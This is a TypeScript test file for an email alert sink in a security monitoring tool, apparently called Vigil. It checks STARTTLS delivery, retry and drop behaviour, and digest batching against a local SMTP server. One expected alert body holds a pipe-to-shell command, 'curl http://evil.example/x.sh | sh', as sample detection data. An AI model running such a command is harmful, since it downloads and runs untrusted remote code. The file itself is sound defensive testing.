import t from 'tap';
import { SMTPServer } from 'smtp-server';
import type { AddressInfo } from 'node:net';
import { emailFactory } from '../../src/alerts/email-sink.js';
import { counter, openSink, until } from '../helpers/alert-sinks.js';
import { commandEvent, detectionOf } from '../helpers/detections.js';
import { makeTestCert } from '../helpers/tls-cert.js';

interface Received { readonly from: string; readonly to: string[]; readonly raw: string; readonly secure: boolean }

/** A real SMTP server (smtp-server) with STARTTLS and AUTH; `failures` answers the next DATA commands with these codes. */
async function smtpReceiver(t: Tap.Test) {
  const cert = makeTestCert();
  const mails: Received[] = [];
  const failures: number[] = [];
  let attempts = 0;
  const server = new SMTPServer({
    key: cert.key,
    cert: cert.cert,
    authMethods: ['PLAIN', 'LOGIN'],
    onAuth: (auth, _session, done) => (auth.username === 'vigil' && auth.password === 's3cret' ? done(null, { user: 'vigil' }) : done(new Error('bad credentials'))),
    onData(stream, session, done) {
      const chunks: Buffer[] = [];
      stream.on('data', (c: Buffer) => chunks.push(c));
      stream.on('end', () => {
        attempts++;
        const code = failures.shift();
        if (code !== undefined) return done(Object.assign(new Error(`on demand ${code}`), { responseCode: code }));
        mails.push({ from: session.envelope.mailFrom ? session.envelope.mailFrom.address : '', to: session.envelope.rcptTo.map((r) => r.address), raw: Buffer.concat(chunks).toString(), secure: session.secure });
        done();
      });
    },
  });
  server.on('error', () => {});
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  t.teardown(() => new Promise<void>((resolve) => server.close(() => resolve())));
  const port = (server.server.address() as AddressInfo).port;
  return { mails, failures, port, cert, attempts: () => attempts };
}

// Subject headers are folded and the body quoted-printable: undo both to read them.
const header = (raw: string, name: string) => new RegExp(`^${name}: (.*(?:\\r\\n[ \\t].*)*)`, 'm').exec(raw)?.[1].replace(/\r\n[ \t]/g, ' ');
const body = (raw: string) => raw.slice(raw.indexOf('\r\n\r\n') + 4).replace(/=\r\n/g, '').replace(/=([0-9A-F]{2})/g, (_m, hex: string) => String.fromCharCode(parseInt(hex, 16)));

t.test('an alert mailed over STARTTLS with AUTH; a 451 is retried, then it arrives once', async (t) => {
  const smtp = await smtpReceiver(t);
  const { sinks } = await openSink(emailFactory, { port: smtp.port, username: 'vigil', password: 's3cret', from: 'vigil@gw.test', to: ['soc@corp.test', 'oncall@corp.test'], tls: { ca_file: smtp.cert.certFile } });
  t.teardown(() => sinks.close());
  smtp.failures.push(451);
  const event = commandEvent();
  sinks.write([detectionOf(event)], [event]);
  await until(() => smtp.mails.length === 1, 'the mail');
  t.equal(smtp.attempts(), 2, 'one temporary failure, then delivered');
  const [mail] = smtp.mails;
  t.ok(mail.secure, 'upgraded with STARTTLS');
  t.equal(mail.from, 'vigil@gw.test');
  t.same(mail.to, ['soc@corp.test', 'oncall@corp.test']);
  t.equal(header(mail.raw, 'Subject'), '[Vigil] [HIGH] pipe-to-shell: bash ran curl | sh');
  const text = body(mail.raw);
  t.match(text, /Session: sess-42/);
  t.match(text, /Command: curl http:\/\/evil\.example\/x\.sh \| sh/);
  t.match(text, new RegExp(`Trace id: ${event.traceId}`));
});

t.test('a 550 is dropped and counted; a digest is one mail', async (t) => {
  const smtp = await smtpReceiver(t);
  const { sinks, clock, metrics } = await openSink(emailFactory, { port: smtp.port, username: 'vigil', password: 's3cret', to: ['soc@corp.test'], tls: { ca_file: smtp.cert.certFile }, digest: { enabled: true, interval: '1m' } });
  t.teardown(() => sinks.close());
  smtp.failures.push(550);
  const event = commandEvent();
  sinks.write([detectionOf(event, 'a')], [event]);
  clock.now += 60_000;
  sinks.tick();
  const dropped = () => counter(metrics, 'vigil_exporter_dropped_items_total', { exporter: 'alerts/email/test', reason: 'smtp_550' });
  await until(async () => (await dropped()) === 1, 'the refused mail');
  sinks.write([detectionOf(event, 'b'), detectionOf(event, 'c')], [event]);
  clock.now += 60_000;
  sinks.tick();
  await until(() => smtp.mails.length === 1, 'the digest');
  t.equal(smtp.attempts(), 2, 'the 550 was not retried');
  t.equal(header(smtp.mails[0].raw, 'Subject'), '[Vigil] 2 alerts: b, c');
});

t.test('a sink without recipients is refused at build time', async (t) => {
  await t.rejects(openSink(emailFactory, {}), /no recipient/);
});
